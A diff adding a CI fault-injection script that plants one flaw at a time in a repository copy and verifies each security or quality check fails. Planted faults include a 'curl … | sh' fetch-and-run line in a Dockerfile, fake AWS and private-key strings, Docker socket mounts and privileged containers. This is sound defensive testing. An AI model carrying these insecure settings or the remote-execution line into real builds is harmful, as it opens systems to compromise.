@@ -1,0 +1,137 @@
+#!/usr/bin/env bash
+# Shows that the checks can fail: plants a fault in a copy of the tree, one at a time, and wants the check that is there for it to turn red.
+#   ci/faults.sh [WORD]        those whose name has WORD; about five minutes for all. Not part of the pipeline.
+# What is planted is expanded there, not here.
+# shellcheck disable=SC2016
+set -euo pipefail
+# shellcheck source=ci/environment.sh
+. "$(dirname "$0")/environment.sh"
+cd "$TOCSIN_ROOT"
+
+word=${1:-}
+copy=$(mktemp -d)
+trap 'rm -rf "$copy"' EXIT
+checkers || die "the checkers of ci/checkers.txt cannot be installed here"
+# Versions and licences need what was resolved; the copy only reads it.
+resolved=$TOCSIN_BUILD_PATH
+fresh() {
+    rm -rf "$copy/tree"
+    mkdir "$copy/tree"
+    git ls-files -z --cached --others --exclude-standard | tar -c --null -T - | tar -x -C "$copy/tree"
+    git -C "$copy/tree" init -q
+    git -C "$copy/tree" add -A
+    git -C "$copy/tree" -c user.name=faults -c user.email=faults@localhost commit -qm fresh
+}
+wanted() { [[ $1 == *"$word"* ]]; }
+bad=0
+# fault <stage> <step that must fail> <what is planted>, and on standard input the commands that plant it
+fault() {
+    local stage=$1 step=$2 what=$3 plant out=$copy/out
+    plant=$(cat)
+    wanted "$stage $step $what" || return 0
+    fresh
+    (cd "$copy/tree" && bash -euo pipefail -c "$plant")
+    if (cd "$copy/tree" && NO_COLOR=1 TOCSIN_STEP=$step TOCSIN_BUILD_PATH=${FAULT_BUILD_PATH:-$resolved} TOCSIN_RESULTS_PATH=$copy/results "ci/$stage.sh") >"$out" 2>&1; then
+        printf '%sstill green%s  %-8s %-22s %s\n' "$red" "$plain" "$stage" "$step" "$what"
+        bad=1
+    elif grep -q "^failed  $step " "$out"; then
+        printf '%sred%s  %-8s %-22s %-62s %s\n' "$green" "$plain" "$stage" "$step" "$what" "$(grep -vE '^(ok|failed|skipped) |: failed:' "$out" | grep -v '^$' | head -n 1 | sed "s#$copy/##g" | cut -c1-110)"
+    else
+        printf '%sred for another reason%s  %s %s %s\n' "$red" "$plain" "$stage" "$step" "$what"
+        tail -n 5 "$out"
+        bad=1
+    fi
+}
+compose() { # compose <what> <python on the parsed file, as d>
+    fault security "container audit" "$1" <<END
+"$CHECKERS/python" - <<'PY'
+import yaml
+d = yaml.safe_load(open("docker-compose.yml"))
+s = d["services"]
+$2
+yaml.safe_dump(d, open("docker-compose.yml", "w"), width=10000)
+PY
+END
+}
+dockerfile() { fault security "container audit" "$1" <<<"sed -i '$2' ci/Dockerfile"; }
+
+# ── quality ────────────────────────────────────────────────────────────────────────────────────────────────────────────────────────────
+fault quality "swift format" "a line with two spaces too many" <<<"sed -i '0,/^    /s//      /' Shared/Contracts/Severity.swift"
+fault quality layers "a domain that imports Hummingbird" <<<'f=$(find Services/OnCall/Domain -name "*.swift" | head -1); sed -i "1i import Hummingbird" "$f"'
+fault quality "warnings are errors" "warnings are not errors any more" <<<"sed -i '/treatAllWarnings/d' Package.swift"
+fault quality "warnings are errors" "a target without the strict settings" <<<"sed -i '0,/path: \"Services\/CommandLine\",/{/path: \"Services\/CommandLine\",/{n;d}}' Package.swift"
+fault quality shellcheck "an unquoted variable" <<<"printf '#!/bin/bash\nrm -r \$1/x\n' >ci/new.sh"
+fault quality yamllint "a key twice" <<<"printf 'a: 1\na: 2\n' >new.yml"
+fault quality hadolint "apt-get without -y" <<<"sed -i 's/install -y --no/install --no/' ci/Dockerfile"
+fault quality hadolint "a relative WORKDIR" <<<"sed -i 's#WORKDIR /empty#WORKDIR empty#' ci/Dockerfile"
+fault quality "compose schema" "a key that compose does not know" <<<"sed -i '0,/read_only: true/s//read_only: true\n  readonly: true/' docker-compose.yml"
+
+# ── security ───────────────────────────────────────────────────────────────────────────────────────────────────────────────────────────
+fault security secrets "an AWS key in a source file" <<<"printf '// AKIA%s\n' QWERTYUIOPASDFGH >>Shared/Contracts/Severity.swift"
+fault security secrets "a private key in the tests" <<<"printf '%s PRIVATE KEY-----\nMC4CAQAwBQYDK2VwBCIEIA==\n' '-----BEGIN' >Tests/Fixtures/new.txt"
+fault security secrets "a scan that looks for nothing (the canary)" <<<'python3 -c "
+import json
+for name in (\"ci/secrets.baseline.json\", \"ci/secrets-tests.baseline.json\"):
+    found = json.load(open(name))
+    found[\"plugins_used\"] = []
+    json.dump(found, open(name, \"w\"))"'
+fault security "ignored files" ".env is not ignored" <<<"sed -i '/^\.env/d' .gitignore"
+fault security "ignored files" "a key is tracked" <<<"mkdir -p .local && echo x >.local/tocsin.env && git add -f .local/tocsin.env"
+fault security "ignored files" "an example that works" <<<"sed -i 's/^INTERNAL_SECRET=/INTERNAL_SECRET=abc/' .env.example"
+fault security "known-bad versions" "an advisory about the pinned swift-nio" <<<"echo 'swift,swift-nio,99.0.0,TEST-1,planted' >>ci/advisories.csv"
+fault security "known-bad versions" "an advisory about libpq" <<<"echo 'debian,libpq5,99.0-1,TEST-2,planted' >>ci/advisories.csv"
+fault security "known-bad versions" "a PostgreSQL image that is too old" <<<"sed -i 's/postgres:17[.][0-9]*/postgres:17.2/' docker-compose.yml"
+fault security "known-bad versions" "a dependency that is not pinned" <<<"sed -i '0,/exact: \"1.8.2\"/s//from: \"1.8.2\"/' Package.swift"
+fault security "known-bad versions" "another version pinned than was built" <<<"sed -i 's/exact: \"2.101.2\"/exact: \"2.99.0\"/' Package.swift"
+fault security SBOM "a component of a kind that CycloneDX does not know" <<<"sed -i 's/\"type\": \"library\"/\"type\": \"thing\"/' ci/dependencies.py"
+# A dependency's licence is in its checkout: a copy of the build folder's checkouts, with another text.
+if wanted "security licences" && [ -d "$resolved/checkouts" ]; then
+    mkdir -p "$copy/build/checkouts"
+    cp "$resolved/workspace-state.json" "$copy/build/"
+    for folder in "$resolved"/checkouts/*; do
+        mkdir "$copy/build/checkouts/$(basename "$folder")"
+        cp "$folder"/LICENSE* "$copy/build/checkouts/$(basename "$folder")/"
+    done
+    echo 'GNU GENERAL PUBLIC LICENSE Version 3' >"$copy/build/checkouts/swift-mustache/LICENSE.txt"
+    FAULT_BUILD_PATH=$copy/build fault security licences "a dependency under the GPL" <<<true
+    echo 'Ask before use.' >"$copy/build/checkouts/swift-mustache/LICENSE.txt"
+    FAULT_BUILD_PATH=$copy/build fault security licences "a dependency whose licence nobody knows" <<<true
+fi
+
+compose "a service as root" 's["web-ui"]["user"] = "0:0"'
+compose "a user by name" 's["web-ui"]["user"] = "tocsin"'
+compose "image latest" 's["redis"]["image"] = "redis:latest"'
+compose "image without a version" 's["grafana"]["image"] = "grafana/grafana"'
+compose "capabilities kept" 's["postgres"]["cap_drop"] = []'
+compose "a capability taken" 's["prometheus"]["cap_add"] = ["NET_ADMIN"]'
+compose "new privileges" 's["web-ui"]["security_opt"] = []'
+compose "a writable root" 's["alert-ingestion"]["read_only"] = False'
+compose "no memory limit" 'del s["oncall-service"]["deploy"]["resources"]["limits"]["memory"]'
+compose "privileged" 's["grafana"]["privileged"] = True'
+compose "the host's network" 's["prometheus"]["network_mode"] = "host"'
+compose "a published database port" 's["postgres"]["ports"] = ["127.0.0.1:5432:5432"]'
+compose "a database with a way out" 's["redis"]["networks"] = ["suite"]'
+compose "a port on every address" 's["web-ui"]["ports"] = ["8080:8080"]'
+compose "a default password" 's["grafana"]["environment"]["GF_SECURITY_ADMIN_PASSWORD"] = "${GRAFANA_ADMIN_PASSWORD:-admin}"'
+compose "a literal secret" 's["web-ui"]["environment"]["INTERNAL_SECRET"] = "x" * 40'
+compose "a password in a URL" 's["web-ui"]["environment"]["DATABASE_URL"] = "postgresql://a:b@postgres/tocsin"'
+compose "a start that does not wait for health" 's["web-ui"]["depends_on"]["alert-ingestion"]["condition"] = "service_started"'
+compose "the engine's socket" 's["prometheus"]["volumes"].append("/var/run/docker.sock:/var/run/docker.sock:ro")'
+compose "a writable folder of the host" 's["grafana"]["volumes"].append("./monitoring:/m")'
+compose "no healthcheck" 'del s["redis"]["healthcheck"]'
+compose "a service that is missing" 'del s["redis"]'
+compose "a key that .env.example does not tell" 's["web-ui"]["environment"]["X"] = "${SOMETHING_NEW:-}"'
+fault security "container audit" "a folder that the image build does not get" <<<"sed -i '/^!Plugins/d' .dockerignore"
+dockerfile "an image as root" '/^USER/d'
+dockerfile "a user by name" 's/^USER .*/USER tocsin/'
+dockerfile "a base image without a version" 's/^ARG RUNTIME_IMAGE=.*/ARG RUNTIME_IMAGE=debian/'
+dockerfile "a base image that is no argument" 's/^FROM ${RUNTIME_IMAGE}/FROM debian:bookworm-slim/'
+dockerfile "no HEALTHCHECK" '0,/^HEALTHCHECK/{/^HEALTHCHECK/d}'
+dockerfile "a HEALTHCHECK with a shell" '0,/CMD \["\/usr\/local\/bin\/tocsin", /s//CMD ["sh", "-c", /'
+dockerfile "an ENTRYPOINT with a shell" 's#^ENTRYPOINT \["/usr/local/bin/web-ui"\]#ENTRYPOINT /usr/local/bin/web-ui#'
+dockerfile "no time zones" 's/ tzdata//'
+dockerfile "a secret baked in" 's/^ENV HOST=0.0.0.0/ENV INTERNAL_SECRET=abc HOST=0.0.0.0/'
+dockerfile "a download that is run" 's#^RUN apt-get update#RUN curl -s https://example.org/x | sh \&\& apt-get update#'
+
+[ $bad = 0 ] || die "a check did not see what was planted"
+say "faults: ok, every planted fault was seen"
